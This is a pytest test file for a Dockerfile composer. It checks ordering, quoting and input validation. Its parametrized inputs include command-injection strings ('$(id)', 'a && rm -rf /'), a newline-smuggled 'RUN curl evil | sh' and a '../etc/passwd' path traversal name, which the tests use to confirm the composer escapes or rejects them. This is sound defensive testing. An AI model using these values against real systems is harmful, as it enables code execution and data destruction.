"""The pure composer: deterministic, canonical order, hostile values never escape their quotes."""
import shlex

import pytest

from builds.compose.composer import Artifact, ComponentChoice, RecipeSnapshot, compose
from builds.errors import CompositionError

BASE = "127.0.0.1:5000/base/debian@sha256:" + "a" * 64

WGET = ComponentChoice(slug="wget", name="wget", kind="option", version="1", order_weight=10,
                       fragment="RUN apt-get install -y wget", os_families=("debian",))
ENV_VAR = ComponentChoice(
    slug="env-var", name="Environment variable", kind="option", version="1", order_weight=60,
    fragment="ENV {{ name }}={{ value }}",
    parameters=(
        {"name": "name", "type": "string", "pattern": "[A-Z_][A-Z0-9_]{0,63}"},
        {"name": "value", "type": "text", "required": False, "default": ""},
    ),
    values={"name": "GREETING", "value": "hello"},
)
USER = ComponentChoice(slug="runtime-user", name="Non-root runtime user", kind="option", version="1", order_weight=90,
                       fragment="RUN adduser app", final_fragment="USER {{ uid }}",
                       parameters=({"name": "uid", "type": "integer", "min": 1000, "max": 65000},), values={"uid": "10001"})
JRE = ComponentChoice(slug="jre", name="JRE", kind="service", version="17", order_weight=10, fragment="RUN install-jre")
JACOCO = ComponentChoice(slug="jacoco", name="JaCoCo", kind="service", version="0.8.6", order_weight=5,
                         fragment="EXPOSE {{ port }}", requires=("jre",),
                         parameters=({"name": "port", "type": "port"},), values={"port": "6300"})


def snapshot(*components, artifact=None, os_family="debian"):
    return RecipeSnapshot(base_reference=BASE, base_os_family=os_family, components=tuple(components), artifact=artifact)


def test_it_is_deterministic_whatever_the_order_of_ticking():
    first = compose(snapshot(USER, JACOCO, WGET, JRE, ENV_VAR))
    second = compose(snapshot(JRE, ENV_VAR, WGET, JACOCO, USER))
    assert first.dockerfile == second.dockerfile
    assert first.sha256 == second.sha256


def test_it_puts_options_then_services_requirements_first_and_final_lines_last():
    composition = compose(snapshot(JACOCO, USER, JRE, WGET, artifact=Artifact("app.jar", "b" * 64)))
    # jacoco weighs less than jre but needs it, so jre comes first
    assert composition.order == ["wget", "runtime-user", "jre", "jacoco"]
    lines = composition.dockerfile.splitlines()
    assert lines[1] == f"FROM {BASE}"
    assert lines.index("COPY artifact/app.jar /app/app.jar") < lines.index("USER 10001")
    assert lines[-1] == "USER 10001"


@pytest.mark.parametrize("hostile", [
    "$(id)", "`id`", "a && rm -rf /", "it's", 'say "hi"', "x; echo pwned", "${HOME}", "\\", "a b  c",
])
def test_it_quotes_hostile_text_values_so_the_shell_reads_them_back_literally(hostile):
    choice = ComponentChoice(**{**ENV_VAR.__dict__, "values": {"name": "V", "value": hostile}})
    line = [text for text in compose(snapshot(choice)).dockerfile.splitlines() if text.startswith("ENV ")][0]
    assert line.startswith("ENV V=")
    assert shlex.split(line[len("ENV V="):]) == [hostile]


@pytest.mark.parametrize("value", ["a\nRUN curl evil | sh", "a\rb", "tab\there", "nul\x00"])
def test_it_refuses_line_breaks_and_control_characters(value):
    choice = ComponentChoice(**{**ENV_VAR.__dict__, "values": {"name": "V", "value": value}})
    with pytest.raises(CompositionError) as error:
        compose(snapshot(choice))
    assert "env-var.value" in error.value.errors
    assert "control characters" in error.value.errors["env-var.value"]


def test_it_refuses_a_variable_name_outside_its_pattern():
    choice = ComponentChoice(**{**ENV_VAR.__dict__, "values": {"name": "X=1 Y", "value": "v"}})
    with pytest.raises(CompositionError) as error:
        compose(snapshot(choice))
    assert set(error.value.errors) == {"env-var.name"}


def test_it_names_a_missing_requirement_and_a_wrong_os():
    with pytest.raises(CompositionError) as error:
        compose(snapshot(JACOCO, WGET, os_family="busybox"))
    assert "needs jre" in error.value.errors["jacoco"]
    assert "not available on busybox" in error.value.errors["wget"]


def test_it_refuses_an_unsafe_artifact_name():
    for name in ["../etc/passwd", "a b.jar", ".hidden", "x" * 200]:
        with pytest.raises(CompositionError):
            compose(snapshot(WGET, artifact=Artifact(name, "c" * 64)))


def test_it_writes_certificates_as_context_files_not_into_the_dockerfile(pem):
    choice = ComponentChoice(slug="ca", name="CA", kind="option", version="1", order_weight=30,
                             fragment="COPY {{ certificate }} /usr/local/share/ca-certificates/x.crt",
                             parameters=({"name": "certificate", "type": "pem"},), values={"certificate": pem})
    composition = compose(snapshot(choice))
    assert "COPY params/ca/certificate.pem /usr/local/share/ca-certificates/x.crt" in composition.dockerfile
    assert "BEGIN CERTIFICATE" not in composition.dockerfile
    assert composition.context_files["params/ca/certificate.pem"].startswith(b"-----BEGIN CERTIFICATE-----")
